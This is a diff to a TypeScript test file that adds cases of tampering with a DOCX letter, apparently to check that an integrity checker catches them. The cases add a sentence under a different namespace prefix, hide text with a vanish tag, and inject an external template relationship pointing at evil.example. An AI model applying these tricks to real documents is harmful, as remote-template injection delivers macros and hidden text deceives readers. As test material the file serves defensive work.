@@ -66,6 +66,7 @@ interface FiguresFile {
     total: number;
   }[];
 }
+const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
 const first = () => true;
 const SCHEDULES = 'data/schedules';
 
@@ -549,6 +550,36 @@ const SEALED: readonly Omit<Tampering, 'isSealed'>[] = [
       const path = join(r, 'data/letter/letter.docx');
       const changed = await withPart(await readFile(path), 'word/header1.xml', (xml) =>
         xml.replace('DRAFT — not approved', 'The operator is known to us'),
+      );
+      await writeFile(path, changed);
+    },
+  },
+  {
+    name: 'a sentence put into the DOCX under another prefix',
+    place: /letter\.docx word\/document\.xml/,
+    change: (r) =>
+      editDocx(r, (xml) =>
+        xml.replace(
+          '</w:body>',
+          `<x:p xmlns:x="${WORD}"><x:r><x:t>It names the party</x:t></x:r></x:p></w:body>`,
+        ),
+      ),
+  },
+  {
+    name: 'a sentence of the DOCX hidden',
+    place: /letter\.docx word\/document\.xml/,
+    change: (r) => editDocx(r, (xml) => xml.replace('<w:rPr>', '<w:rPr><w:vanish/>')),
+  },
+  {
+    name: 'the DOCX led to a template elsewhere',
+    place: /letter\.docx word\/_rels\/document\.xml\.rels/,
+    change: async (r) => {
+      const path = join(r, 'data/letter/letter.docx');
+      const changed = await withPart(await readFile(path), 'word/_rels/document.xml.rels', (xml) =>
+        xml.replace(
+          '</Relationships>',
+          '<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+        ),
       );
       await writeFile(path, changed);
     },
